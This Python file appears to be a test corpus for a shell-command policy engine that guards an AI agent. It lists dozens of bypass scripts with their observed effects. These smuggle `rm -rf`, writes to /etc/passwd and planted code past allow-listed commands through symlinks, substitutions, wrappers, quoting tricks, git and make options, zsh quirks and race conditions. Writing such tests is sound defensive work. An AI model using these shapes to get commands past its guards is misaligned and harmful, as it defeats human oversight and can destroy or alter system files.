    ("ln -s ../../etc h; echo x > h/passwd", wrote("/etc/passwd"), "links"),
    ("ln -s /etc/passwd y && echo x >> y", wrote("/etc/passwd"), "links"),
    ("ln -sr /etc/passwd y && echo x >> y", wrote("/etc/passwd"), "links"),
    ("mkdir d && ln -st d /etc/passwd && echo x >> d/passwd", wrote("/etc/passwd"), "links"),
    ("mkdir d && cd d && ln -s ../../root r && touch r/x", wrote("/root/x"), "links"),
    # `..` after a `cd` into a linked folder climbs from where the link led (F119)
    ("ln -s /etc/ssh h; cd h && echo x > ../passwd", wrote("/etc/passwd"), "links"),
    (
        "ln -s /etc/ssh h && cd h && cp /workspace/notes.txt ../passwd",
        wrote("/etc/passwd"),
        "links",
    ),
):
    _add(LINKS, script, effect, policy=policy)

# -- make reads the variables of its command line before any makefile: `x:=$(shell CMD)` and
# `x!=CMD` run CMD at once, with no makefile in the folder (F108; a plain `x=…` was acting
# already, the other assignment operators and names like `.SHELLFLAGS` were not).
for script in (
    "make 'x!=touch /workspace/PWNED'",
    "make 'x:=$(shell touch /workspace/PWNED)'",
    "make 'x::=$(shell touch /workspace/PWNED)'",
    "make 'x :=$(shell touch /workspace/PWNED)'",
    "make -s 'x!=touch /workspace/PWNED' test",
):
    _add(ACTING, script, child(TOUCH), policy="benign")

# -- git: `--shallow-file` takes the next word (the engine read it as the subcommand), a
# config read taken back by `--no-get` writes, grep's `-c` is a flag (F125) ----------------
for script in (
    "git --no-pager --shallow-file log -c alias.x='!touch /workspace/PWNED' x",
    "git --no-pager --shallow-file status grep -O'touch /workspace/PWNED' demo",
    "git config --get --no-get core.fsmonitor 'touch /workspace/PWNED'; git status",
    "git grep -cO'touch /workspace/PWNED' demo",
):
    _add(ACTING, script, child(TOUCH), policy="benign")

# -- sed reads the `s` delimiter inside a bracket expression as itself, so the flag after the
# real replacement acts (F127); uniq's obsolete `+N` and xxd's `--len` (one dash to xxd) are
# options, and the file after the input is written ---------------------------------------
for script, effect in (
    ('sed "s/[/]*/x;a /w /etc/fluidbox-x" /workspace/notes.txt', wrote("/etc/fluidbox-x")),
    ('sed -n "s/[/]*/x;a ;touch \\/workspace\\/PWNED;#/e" /workspace/notes.txt', child(TOUCH)),
    ("uniq +1 /workspace/notes.txt /etc/fluidbox-x", wrote("/etc/fluidbox-x")),
    ("xxd --len 3 /workspace/notes.txt /etc/fluidbox-x", wrote("/etc/fluidbox-x")),
):
    _add(ACTING, script, effect, policy="benign")

# -- zsh evaluates some words as arithmetic, and a subscript's `$(…)` runs there (F131):
# COLUMNS and LINES, printf's numeric arguments, `test -t`'s operand. And in every shell
# `A || cd DIR && B` runs B where A ran when A succeeds (F131) ----------------------------
for script, effect, shell, policy in (
    ("COLUMNS='path[$(rm -rf /workspace/victim)]' echo hi", ran(RM), "zsh", "review"),
    ("LINES='argv[`rm -rf /workspace/victim`]' git status", ran(RM), "zsh", "review"),
    ("printf '%d' 'path[$(rm -rf /workspace/victim)]'", ran(RM), "zsh", "benign"),
    ("[ -t 'path[$(rm -rf /workspace/victim)]' ]", ran(RM), "zsh", "benign"),
    ("true || cd src && mkdir -p ../etc/fluidbox-x", wrote("/etc/fluidbox-x"), "bash", "benign"),
    ("true || cd src && mkdir -p ../etc/fluidbox-x", wrote("/etc/fluidbox-x"), "sh", "benign"),
    ("true || cd src && cat < ../etc/hostname", read("/etc/hostname"), "zsh", "benign"),
    # a link copied as a link from outside, written through (F131)
    ("cp -a /etc/os-release r; echo x >> r", wrote("/usr/lib/os-release"), "sh", "benign"),
    # git renames into .git before it refuses the path; ls-remote's hidden --exec (F130)
    (
        "printf '[core]\\n\\tfsmonitor = touch /workspace/PWNED; false\\n' > cfg && "
        "git add cfg && git --no-pager mv -f cfg .git/config; git status --short",
        child(TOUCH),
        "bash",
        "benign",
    ),
    ("git --no-pager ls-remote --exec='touch /workspace/PWNED;' .", child(TOUCH), "bash", "benign"),
    # zsh's printf reads `%ld`'s argument as a number, and `%n` assigns (F134)
    ("printf '%ld' 'path[$(rm -rf /workspace/victim)]'", ran(RM), "zsh", "benign"),
    ("printf 'ab%n' 'argv[$(rm -rf /workspace/victim)]'", ran(RM), "zsh", "benign"),
    # a link whose text climbs, copied as a link one folder up (F133)
    (
        "mkdir -p a etc && touch etc/hostname && cd a && cp -s ../etc/hostname h && "
        "cp -P h ../h && cd .. && echo x >> h",
        wrote("/etc/hostname"),
        "bash",
        "benign",
    ),
    # `..` after a link the script made, whose target became a folder; the shell's folder
    # moved up by mv (F135)
    (
        "mkdir a && touch d && cp -s /workspace/d a/l && mv d e && mkdir d && "
        "echo x > a/l/../../etc/fluidbox-x",
        wrote("/etc/fluidbox-x"),
        "sh",
        "benign",
    ),
    (
        "mkdir a && touch d && cp -s /workspace/d a/l && mv d e && mkdir d && cd a/l && "
        "touch ../../etc/fluidbox-x",
        wrote("/etc/fluidbox-x"),
        "bash",
        "benign",
    ),
    (
        "mkdir -p a/b && cd a/b && mv /workspace/a/b /workspace/c && touch ../../etc/fluidbox-x",
        wrote("/etc/fluidbox-x"),
        "sh",
        "benign",
    ),
    (
        "mkdir -p a/b && cd a/b && mv /workspace/a/b /workspace/c && cat < ../../etc/hostname",
        read("/etc/hostname"),
        "zsh",
        "benign",
    ),
):
    _add(ACTING if shell != "zsh" else DIALECT, script, effect, shell=shell, policy=policy)

# -- a bundle the script writes with printf, fetched by a bare word (with no remote of that
# name git reads the file) and checked out: its links are made though no word shows them; then
# a hard link, or a link made inside a linked folder, carries a climbing text elsewhere (F141)
_BUNDLE_LINK_TO_ETC = bytes.fromhex(
    "23207632206769742062756e646c650a346461616230636637646231666261653265343333396561"
    "3032643735653663326532633363333520484541440a346461616230636637646231666261653265"
    "3433333965613032643735653663326532633363333520726566732f68656164732f780a0a504143"
    "4b00000002000000033478dad34f2d490600033a016cad0178da3334320002851c0693b7c1fecbe2"
    "79d24c7e2464ed56bceda8b098310700857c0a08920678da65c93b0a80300c00d03da7c8ee92d83f"
    "887895b4b4e8500a2582c7d7ddb73e9db5a28b3919d3821157620ab6ac8543359e1a3b8e2c2e5b22"
    "bf46905bcf3151709323ef48b8d007cae8fd52adff81075e2d5d19d720fc7b444cae28f457f3d741"
    "3b195ba58b1ced0c"
)
_BUNDLE_LINK_TO_GIT_CONFIG = bytes.fromhex(
    "23207632206769742062756e646c650a636339323137613633626162363338623031663530626234"
    "6134383831383736383334313435636420484541440a636339323137613633626162363338623031"
    "6635306262346134383831383736383334313435636420726566732f68656164732f780a0a504143"
    "4b00000002000000033b78dad34bcf2cd14fcecf4bcb4c070017450418ad0178da33343200028564"
    "8692853901bb1dab27557daa335fafe2c1cff036c808008c370a3d920678da65c9310a80300c00c0"
    "bdafc8ee926a691b10f12b314dd1a1144a049fafbbb79e0d5590e091b0624149d5e742311069a5b8"
    "88a759516aca41951ddf76f6010c2befc70608137e9cf4d62e33fd8f7bdc0b6a281ad941bdf12557"
    "50bf51e0047ad253600015507e0840"
)


def _printf_bytes(data: bytes) -> str:
    return "printf '" + "".join(f"\\{byte:03o}" for byte in data) + "'"


for script, effect, policy in (
    (
        f"{_printf_bytes(_BUNDLE_LINK_TO_ETC)} > upstream && git fetch -q upstream && "
        "git checkout -q FETCH_HEAD -- l && echo x > l/fluidbox-x",
        wrote("/etc/fluidbox-x"),
        "benign",
    ),
    (
        f"{_printf_bytes(_BUNDLE_LINK_TO_GIT_CONFIG)} > origin && git fetch -q origin && "
        f"git restore --source=FETCH_HEAD c && {_FSMONITOR_THROUGH}",
        PLANTED,
        "benign",
    ),
    (
        "mkdir -p a/b/c && ln -s ../../../etc/hostname a/b/c/h && ln a/b/c/h h2 && cat < h2",
        read("/etc/hostname"),
        "links",
    ),
    (
        "mkdir -p a d && ln -s /workspace/d a/l && ln -s ../../etc/hostname a/l/h && cat < a/l/h",
        read("/etc/hostname"),
        "links",
    ),
):
    _add(LINKS, script, effect, policy=policy)

# -- zsh runs a compiled start-up file (`.zshenv.zwc`, here `zcompile`'s output of `rm -rf
# /workspace/victim`) at every start, `zsh -c` included; with no PATH bash searches its own
# default, which ends in `.`, so `tree` (allowed, not installed) is the script's `./tree` (F139)
_ZSHENV_ZWC = bytes.fromhex(
    "0706050400840000352e390000000000000000000000000000000000000000000000000000000000"
    "00000000000000001400000032000000000000002000000008000000000000002e7a7368656e7600"
    "41020000021400008300000066000000926b0300db94330300000000000000002f776f726b737061"
    "63652f76696374696d0000000405060702840000352e390000000000000000000000000000000000"
    "00000000000000000000000000000000000000000000001400000032000000000000002000000008"
    "000000002e7a7368656e76000000024100001402000000830000006600036b92033394db00000000"
    "000000002f776f726b73706163652f76696374696d000000"
)
_ZWC_WRITTEN = "printf '" + "".join(f"\\{byte:03o}" for byte in _ZSHENV_ZWC) + "'"
for script, effect, shell in (
    (f"{_ZWC_WRITTEN} > .home/.zshenv.zwc && zsh -c 'echo hi'", ran(RM), "zsh"),
    (f"{_ZWC_WRITTEN} > .home/.zshenv.zwc && zsh -c 'echo hi'", ran(RM), "bash"),
    (
        "cp bin/ls tree && echo 'rm -rf /workspace/victim' > tree && env -i bash -c tree",
        ran(RM),
        "bash",
    ),
    (
        "cp bin/ls tree && echo 'rm -rf /workspace/victim' > tree && env -u PATH bash -c tree",
        ran(RM),
        "sh",
    ),
):
    _add(ACTING if shell != "zsh" else DIALECT, script, effect, shell=shell, policy="benign")

# -- what npm, yarn, pnpm, tox and cargo hand on to the project's test runner is read as that
# runner's options (F110): here the project's test script is pytest (the package.json is what
# an earlier tool call of the agent, or the project, left).
_PYTEST_SCRIPT = (
    """printf '%s' '{"scripts":{"test":"python3 -m pytest -q tests"}}' > /workspace/package.json"""
)
for script, effect in (
    (f"{_PYTEST_SCRIPT} && npm test -- --basetemp=/etc/fluidbox-x", wrote("/etc/fluidbox-x")),
    (f"{_PYTEST_SCRIPT} && npm run test -- --basetemp=/root/x", wrote("/root/x")),
    (f"{_PYTEST_SCRIPT} && npm test -- /etc/hostname", wrote("/.pytest_cache")),
    # npm reads `-script-shell=` as `--script-shell=`: the planted program runs the script (F132)
    (f"{_PYTEST_SCRIPT} && npm test -script-shell=/workspace/bin/ls", PLANTED),
):
    _add(ACTING, script, effect, policy="benign")

# -- `git apply --build-fake-ancestor=FILE` writes a temporary index at the path given (F115;
# the patch is one the script makes from a change it then undoes).
_add(
    ACTING,
    "echo hi >> notes.txt && git diff > p.patch && git checkout -q notes.txt && "
    f"git --no-pager apply --build-fake-ancestor={X} p.patch",
    wrote(f"{X}.lock"),
    policy="benign",
)

# -- the shapes of the earlier bypass corpus (tests/governance/policy/bypass_corpus.yaml),
# payloads pointed at the fixture (`rm -rf /` became `rm -rf /workspace/victim`); a shape
# with which a real shell does nothing the rules forbid was dropped ----------------------
BYPASS_CORPUS = {
    "compound commands": (
        ("ls; rm -rf /workspace/victim", ran("rm -rf /workspace/victim")),
        ("ls;rm -rf /workspace/victim", ran("rm -rf /workspace/victim")),
        ("ls && rm -rf /workspace/victim", ran("rm -rf /workspace/victim")),
        ("ls&&rm -rf /workspace/victim", ran("rm -rf /workspace/victim")),
        ("ls | rm -rf /workspace/victim", ran("rm -rf /workspace/victim")),
        ("ls |& rm -rf /workspace/victim", ran("rm -rf /workspace/victim")),
        ("ls & rm -rf /workspace/victim", ran("rm -rf /workspace/victim")),
        ("rm -rf /workspace/victim &", ran("rm -rf /workspace/victim")),
        ("! rm -rf /workspace/victim", ran("rm -rf /workspace/victim")),
        ("ls | echo x | echo y | rm -rf /workspace/victim", ran("rm -rf /workspace/victim")),
        ("ls -la ; rm -rf /workspace/victim ;", ran("rm -rf /workspace/victim")),
    ),
    "command substitution, process substitution, expansions": (
        ("echo $(rm -rf /workspace/victim)", ran("rm -rf /workspace/victim")),
        ('echo "$(rm -rf /workspace/victim)"', ran("rm -rf /workspace/victim")),
        ("echo `rm -rf /workspace/victim`", ran("rm -rf /workspace/victim")),
        ('echo "`rm -rf /workspace/victim`"', ran("rm -rf /workspace/victim")),
        ("ls $(rm -rf /workspace/victim)", ran("rm -rf /workspace/victim")),
        ('ls "$(echo "$(rm -rf /workspace/victim)")"', ran("rm -rf /workspace/victim")),
        ("echo ${x:-$(rm -rf /workspace/victim)}", ran("rm -rf /workspace/victim")),
        ('echo "${x:=$(rm -rf /workspace/victim)}"', ran("rm -rf /workspace/victim")),
        ("echo ${x:-`rm -rf /workspace/victim`}", ran("rm -rf /workspace/victim")),
        ("echo $((1 + $(rm -rf /workspace/victim)))", ran("rm -rf /workspace/victim")),
        ("echo $[$(rm -rf /workspace/victim)]", ran("rm -rf /workspace/victim")),
        ("echo ${a[$(rm -rf /workspace/victim)]}", ran("rm -rf /workspace/victim")),
        ("ls <(rm -rf /workspace/victim)", ran("rm -rf /workspace/victim")),
        ("ls > >(rm -rf /workspace/victim)", ran("rm -rf /workspace/victim")),
        ("X=$(rm -rf /workspace/victim) ls", ran("rm -rf /workspace/victim")),
        ("for f in $(rm -rf /workspace/victim); do ls; done", ran("rm -rf /workspace/victim")),
        ('ls <<< "$(rm -rf /workspace/victim)"', ran("rm -rf /workspace/victim")),
        ('ls > "$(rm -rf /workspace/victim)"', ran("rm -rf /workspace/victim")),
        ("echo <<EOF\n$(rm -rf /workspace/victim)\nEOF", ran("rm -rf /workspace/victim")),
        ("echo <<EOF\n`rm -rf /workspace/victim`\nEOF", ran("rm -rf /workspace/victim")),
        ("echo <<-EOF\n\t$(rm -rf /workspace/victim)\n\tEOF", ran("rm -rf /workspace/victim")),
        ("ls $(echo $(rm -rf /workspace/victim))", ran("rm -rf /workspace/victim")),
    ),
    "subshells, groups and compound commands": (
        ("(rm -rf /workspace/victim)", ran("rm -rf /workspace/victim")),
        ("( ls; rm -rf /workspace/victim )", ran("rm -rf /workspace/victim")),
        ("ls && (ls; (rm -rf /workspace/victim))", ran("rm -rf /workspace/victim")),
        ("{ rm -rf /workspace/victim; }", ran("rm -rf /workspace/victim")),
        ("{ ls; rm -rf /workspace/victim; }", ran("rm -rf /workspace/victim")),
        ("if true; then rm -rf /workspace/victim; fi", ran("rm -rf /workspace/victim")),
        ("if rm -rf /workspace/victim; then ls; fi", ran("rm -rf /workspace/victim")),
        ("while true; do rm -rf /workspace/victim; break; done", ran("rm -rf /workspace/victim")),
        ("until false; do rm -rf /workspace/victim; break; done", ran("rm -rf /workspace/victim")),
        ("for i in 1 2; do rm -rf /workspace/victim; done", ran("rm -rf /workspace/victim")),
        ("f() { rm -rf /workspace/victim; }; f", ran("rm -rf /workspace/victim")),
        ("function f { rm -rf /workspace/victim; }; f", ran("rm -rf /workspace/victim")),
        ("ls() { rm -rf /workspace/victim; }; ls", ran("rm -rf /workspace/victim")),
    ),
    "wrappers": (
        ("env rm -rf /workspace/victim", ran("rm -rf /workspace/victim")),
        ("env -i rm -rf /workspace/victim", ran("rm -rf /workspace/victim")),
        ("env -u HOME rm -rf /workspace/victim", ran("rm -rf /workspace/victim")),
        ("env A=1 rm -rf /workspace/victim", ran("rm -rf /workspace/victim")),
        ("env -- rm -rf /workspace/victim", ran("rm -rf /workspace/victim")),
        ("env -S 'rm -rf /workspace/victim'", ran("rm -rf /workspace/victim")),
        ("/usr/bin/env rm -rf /workspace/victim", ran("rm -rf /workspace/victim")),
        ("command rm -rf /workspace/victim", ran("rm -rf /workspace/victim")),
        ("command -p rm -rf /workspace/victim", ran("rm -rf /workspace/victim")),
        ("builtin exec rm -rf /workspace/victim", ran("rm -rf /workspace/victim")),
        ("exec rm -rf /workspace/victim", ran("rm -rf /workspace/victim")),
        ("exec -a innocent rm -rf /workspace/victim", ran("/usr/bin/rm -rf /workspace/victim")),
        ("nice rm -rf /workspace/victim", ran("rm -rf /workspace/victim")),
        ("nice -n 10 rm -rf /workspace/victim", ran("rm -rf /workspace/victim")),
        ("nice -10 rm -rf /workspace/victim", ran("rm -rf /workspace/victim")),
        ("nohup rm -rf /workspace/victim", ran("rm -rf /workspace/victim")),
        ("time rm -rf /workspace/victim", ran("rm -rf /workspace/victim")),
        ("time -p rm -rf /workspace/victim", ran("rm -rf /workspace/victim")),
        ("timeout 5 rm -rf /workspace/victim", ran("rm -rf /workspace/victim")),
        ("timeout -s KILL 5 rm -rf /workspace/victim", ran("rm -rf /workspace/victim")),
        ("timeout --kill-after=1 5 rm -rf /workspace/victim", ran("rm -rf /workspace/victim")),
        ("echo /workspace/victim | xargs rm -rf", child("rm -rf /workspace/victim")),
        ("xargs -0 rm -rf", child("rm -rf")),
        ("xargs -n 1 rm -rf", child("rm -rf")),
        ("stdbuf -o0 rm -rf /workspace/victim", ran("rm -rf /workspace/victim")),
        ("setsid rm -rf /workspace/victim", ran("rm -rf /workspace/victim")),
        (
            "nohup nice -n 5 timeout 10 env A=1 rm -rf /workspace/victim",
            ran("rm -rf /workspace/victim"),
        ),
        ("eval rm -rf /workspace/victim", ran("rm -rf /workspace/victim")),
        ('eval "rm -rf /workspace/victim"', ran("rm -rf /workspace/victim")),
        (
            "find /workspace/victim -exec rm -rf {} +",
            child("rm -rf /workspace/victim"),
        ),
        ("find /workspace/victim -execdir rm {} \\;", child("rm ./victim")),
        ("xargs ls", child("ls")),
    ),
    "assignments and environment prefixes": (
        ("X=1 rm -rf /workspace/victim", ran("rm -rf /workspace/victim")),
        ("X=1 Y=2 rm -rf /workspace/victim", ran("rm -rf /workspace/victim")),
        ("a=1; rm -rf /workspace/victim", ran("rm -rf /workspace/victim")),
    ),
    "quoting and backslashes": (
        ("\\rm -rf /workspace/victim", ran("rm -rf /workspace/victim")),
        ("r\\m -rf /workspace/victim", ran("rm -rf /workspace/victim")),
        ("\\r\\m -rf /workspace/victim", ran("rm -rf /workspace/victim")),
        ("'rm' -rf /workspace/victim", ran("rm -rf /workspace/victim")),
        ('"rm" -rf /workspace/victim', ran("rm -rf /workspace/victim")),
        ("'r''m' -rf /workspace/victim", ran("rm -rf /workspace/victim")),
        ('r""m -rf /workspace/victim', ran("rm -rf /workspace/victim")),
        ('"r"m -rf /workspace/victim', ran("rm -rf /workspace/victim")),
        ("$'rm' -rf /workspace/victim", ran("rm -rf /workspace/victim")),
        ("$'\\x72m' -rf /workspace/victim", ran("rm -rf /workspace/victim")),
        ("$'\\162m' -rf /workspace/victim", ran("rm -rf /workspace/victim")),
        ("$'\\u0072m' -rf /workspace/victim", ran("rm -rf /workspace/victim")),
        ('$"rm" -rf /workspace/victim', ran("rm -rf /workspace/victim")),
        ("r\\\nm -rf /workspace/victim", ran("rm -rf /workspace/victim")),
        ("rm -r'f' /workspace/victim", ran("rm -rf /workspace/victim")),
    ),
    "programs named by path": (
        ("/bin/rm -rf /workspace/victim", ran("/bin/rm -rf /workspace/victim")),
        ("/usr/bin/rm -rf /workspace/victim", ran("/usr/bin/rm -rf /workspace/victim")),
        ("/bin/../bin/rm -rf /workspace/victim", ran("/bin/../bin/rm -rf /workspace/victim")),
        ("//bin//rm -rf /workspace/victim", ran("//bin//rm -rf /workspace/victim")),
        ("../../bin/rm -rf /workspace/victim", ran("../../bin/rm -rf /workspace/victim")),
        ('"/bin/rm" -rf /workspace/victim', ran("/bin/rm -rf /workspace/victim")),
        ("/bin/r\\m -rf /workspace/victim", ran("/bin/rm -rf /workspace/victim")),
        ("/workspace/bin/ls -la", child("/usr/bin/touch /workspace/PWNED")),
    ),
    "sh -c and nested scripts": (
        ("sh -c 'rm -rf /workspace/victim'", ran("rm -rf /workspace/victim")),
        ('bash -c "rm -rf /workspace/victim"', ran("rm -rf /workspace/victim")),
        ("dash -c 'rm -rf /workspace/victim'", ran("rm -rf /workspace/victim")),
        ("zsh -c 'rm -rf /workspace/victim'", ran("rm -rf /workspace/victim")),
        ("bash -ec 'rm -rf /workspace/victim'", ran("rm -rf /workspace/victim")),
        ("bash -o pipefail -c 'rm -rf /workspace/victim'", ran("rm -rf /workspace/victim")),
        ("sh -c 'ls; rm -rf /workspace/victim'", ran("rm -rf /workspace/victim")),
        ("sh -c \"sh -c 'rm -rf /workspace/victim'\"", ran("rm -rf /workspace/victim")),
        (
            'bash -c \'bash -c "bash -c \\"rm -rf /workspace/victim\\""\'',
            ran("rm -rf /workspace/victim"),
        ),
        ("/bin/sh -c 'rm -rf /workspace/victim'", ran("rm -rf /workspace/victim")),
        ("sh -c 'rm -rf /workspace/victim' ls", ran("rm -rf /workspace/victim")),
        ("bash <<< 'rm -rf /workspace/victim'", ran("rm -rf /workspace/victim")),
        ("sh <<'EOF'\nrm -rf /workspace/victim\nEOF", ran("rm -rf /workspace/victim")),
        ("sh <<EOF\nls\nrm -rf /workspace/victim\nEOF", ran("rm -rf /workspace/victim")),
        ("sh -c 'eval \"rm -rf /workspace/victim\"'", ran("rm -rf /workspace/victim")),
        ('sh -c "ls $(rm -rf /workspace/victim)"', ran("rm -rf /workspace/victim")),
        ("echo 'rm -rf /workspace/victim' | sh", ran("rm -rf /workspace/victim")),
        ("echo 'rm -rf /workspace/victim' | bash -s", ran("rm -rf /workspace/victim")),
    ),
    "newlines and comments": (
        ("ls\nrm -rf /workspace/victim", ran("rm -rf /workspace/victim")),
        ("ls -la\n\nrm -rf /workspace/victim", ran("rm -rf /workspace/victim")),
        ("ls\r\nrm -rf /workspace/victim", ran("rm -rf /workspace/victim")),
        ("ls # just listing\nrm -rf /workspace/victim", ran("rm -rf /workspace/victim")),
        ("ls\n\trm -rf /workspace/victim", ran("rm -rf /workspace/victim")),
        ("ls &&\nrm -rf /workspace/victim", ran("rm -rf /workspace/victim")),
        ("ls |\nrm -rf /workspace/victim", ran("rm -rf /workspace/victim")),
        ("echo a\\\nb; rm -rf /workspace/victim", ran("rm -rf /workspace/victim")),
    ),
    "redirections are writes": (
        ("echo x > /etc/passwd", wrote("/etc/passwd")),
        ("echo x >> /etc/passwd", wrote("/etc/passwd")),
        ("ls 2> /etc/passwd", wrote("/etc/passwd")),
        ("ls &> /etc/passwd", wrote("/etc/passwd")),
        ("ls &>> /etc/passwd", wrote("/etc/passwd")),
        ("ls >| /etc/passwd", wrote("/etc/passwd")),
        ("ls <> /etc/passwd", wrote("/etc/passwd")),
        ("ls >& /etc/passwd", wrote("/etc/passwd")),
        ("ls >/etc/passwd", wrote("/etc/passwd")),
        ("ls 3>/etc/passwd", wrote("/etc/passwd")),
        ("ls {fd}>/etc/passwd", wrote("/etc/passwd")),
        ("> /etc/passwd ls", wrote("/etc/passwd")),
        ("> /etc/passwd", wrote("/etc/passwd")),
        ("{ ls; } > /etc/passwd", wrote("/etc/passwd")),
        ("(ls) > /etc/passwd", wrote("/etc/passwd")),
        ('ls > "/etc/"passwd', wrote("/etc/passwd")),
        ("echo x > /workspace/../etc/passwd", wrote("/etc/passwd")),
    ),
    "unicode tricks in commands": (
        ("ls\u200b; rm -rf /workspace/victim", ran("rm -rf /workspace/victim")),
    ),
    "programs the shell computes or expands": (
        ("/usr/bin/r[m] -rf /workspace/victim", ran("/usr/bin/rm -rf /workspace/victim")),
        ("{rm,-rf,/workspace/victim}", ran("rm -rf /workspace/victim")),
        ("$(echo rm) -rf /workspace/victim", ran("rm -rf /workspace/victim")),
        ("`echo rm` -rf /workspace/victim", ran("rm -rf /workspace/victim")),
        ("X=rm; $X -rf /workspace/victim", ran("rm -rf /workspace/victim")),
        ("x='a[$(rm -rf /workspace/victim)]'; echo $((x))", ran("rm -rf /workspace/victim")),
    ),
    "syntax the engine does not model fails closed": (
        ("case x in *) rm -rf /workspace/victim;; esac", ran("rm -rf /workspace/victim")),
        ("coproc rm -rf /workspace/victim", ran("rm -rf /workspace/victim")),
        ('a=(rm -rf /workspace/victim); "${a[@]}"', ran("rm -rf /workspace/victim")),
    ),
    "other programs are not allowed by the ls/echo/git status rules": (
        ("trap 'rm -rf /workspace/victim' EXIT; ls", ran("rm -rf /workspace/victim")),
        (
            "git -c core.pager='rm -rf /workspace/victim' status",
            ran("git -c core.pager=rm -rf /workspace/victim status"),
        ),
    ),
}
for section, shapes in BYPASS_CORPUS.items():
    for script, effect in shapes:
        _add(f"bypass corpus: {section}", script, effect)

# -- the order a script is read in is not the order it acts in (F149): a pipeline's commands
# and a job sent to the background run beside the others; a command written a second time
# after a link was made; a runner in `sh -c` that is not the inner script's last command; an
# inner script that moves the outer shell's folder
_LINK_BEHIND = "mkdir a && touch d && cp -s /workspace/d a/l && mv d e && mkdir d"
_CONFTEST = "echo 'import os; os.system(\"rm -rf /workspace/victim\")' > tests/conftest.py"
_CODE = 'import os; os.system("rm -rf /workspace/victim")'
for script, effect, klass, policy in (
    (f"python -m pytest -q | {_CONFTEST}", child(RM), COMPOSITION, "review"),
    # what a pipeline writes after its runner is the runner's output only when every command
    # between them passes the pipe on: an echo there, or a here-document, feeds the code in
    (
        f"python -m pytest -q | echo '{_CODE}' | grep o > tests/conftest.py",
        child(RM),
        COMPOSITION,
        "review",
    ),
    (f"pytest -q | echo '{_CODE}' | tee tests/conftest.py", child(RM), COMPOSITION, "benign"),
    (
        f"python -m pytest -q | cat <<'EOF' > tests/conftest.py\n{_CODE}\nEOF\n",
        child(RM),
        COMPOSITION,
        "benign",
    ),
    # nl's separator is the code; its file is whole long before pytest's start-up collects it
    # (behind pytest's own output it was cut wherever nl's buffer filled: a syntax error)
    (
        "printf 'x\\n' | nl -nln "
        "\"-s\nimport os;os.system('rm -rf /workspace/victim')\n#\" > tests/test_zz.py | "
        "python -m pytest -q",
        child(RM),
        COMPOSITION,
        "benign",
    ),
    # a nested script as the runner: its other commands print the code into its output
    (
        'sh -c "echo \'import os; os.system(\\"rm -rf /workspace/victim\\")\'; '
        'python -m pytest -q" > conftest.py',
        child(RM),
        COMPOSITION,
        "review",
    ),
    # the substitution's `cat` is part of its command's and-or list, sent to the background
    # (it waits first, as does setsid's below: the shell's write must win the race every run)
    (
        "sleep 3 && python -m pytest -q && "
        "git commit --allow-empty -m \"$(cat <<'EOF'\nmsg\nEOF\n)\" "
        f"& {_CONFTEST}",
        child(RM),
        COMPOSITION,
        "benign",
    ),
    # pytest's cache goes in the folder of a file argument: /dev for /dev/null
    ("python -m pytest -q /dev/null", wrote("/dev/.pytest_cache"), ACTING, "review"),
    # `setsid -f` forks its command away as `&` does; a nested script's `&` behind a pipe
    (
        "setsid -f sh -c 'sleep 3; make'; "
        "printf 'all:\\n\\trm -rf /workspace/victim\\n' > Makefile",
        child(RM),
        COMPOSITION,
        "benign",
    ),
    (
        # the pipe's reader waits for the nested script's job: its write races pytest's start-up,
        # won by hundreds of milliseconds (a wait in the job would delay the write alike)
        f"sh -c 'python -m pytest -q > out.txt &' | cat; {_CONFTEST}",
        child(RM),
        COMPOSITION,
        "benign",
    ),
    (f"{_CONFTEST}; sh -c 'python -m pytest -q; echo done'", child(RM), COMPOSITION, "review"),
    (
        f"sleep 3 && touch a/l/../../tmp/fluidbox-x & {_LINK_BEHIND}",
        wrote("/tmp/fluidbox-x"),
        LINKS,
        "benign",
    ),
    (
        f"touch a/l/../../tmp/fluidbox-x; {_LINK_BEHIND}; touch a/l/../../tmp/fluidbox-x",
        wrote("/tmp/fluidbox-x"),
        LINKS,
        "benign",
    ),
    (
        "cp -P a/h h; mkdir etc && touch etc/hostname && mkdir a && cd /workspace/a && "
        "cp -s ../etc/hostname h && cd /workspace && cp -P a/h h && echo x >> h",
        wrote("/etc/hostname"),
        LINKS,
        "benign",
    ),
    (
        'mkdir -p a/b && cd a/b && sh -c "cd /workspace && mv a/b c" && touch ../../tmp/fluidbox-x',
        wrote("/tmp/fluidbox-x"),
        DIRECTORY,
        "benign",
    ),
    # F164: a recursive cp with -H, or with an -L a later flag undoes, keeps inner links
    (
        "cp -rH /etc/fonts/conf.d r && echo x >> r/51-local.conf",
        wrote("/usr/share/fontconfig/conf.avail/51-local.conf"),
        LINKS,
        "benign",
    ),
    (
        "cp -rL -P /etc/fonts/conf.d r && echo x >> r/51-local.conf",
        wrote("/usr/share/fontconfig/conf.avail/51-local.conf"),
        LINKS,
        "benign",
    ),
    # F153: xargs appends its input's words to the inner xargs, its program among them
    (f"echo {RM} | xargs xargs", child(RM), CODE_FROM_DATA, "benign"),
    (f"echo {RM} | env xargs xargs", child(RM), CODE_FROM_DATA, "builtins"),
    (f"xargs xargs <<'EOF'\n{RM}\nEOF\n", child(RM), CODE_FROM_DATA, "benign"),
):
    _add(klass, script, effect, policy=policy)
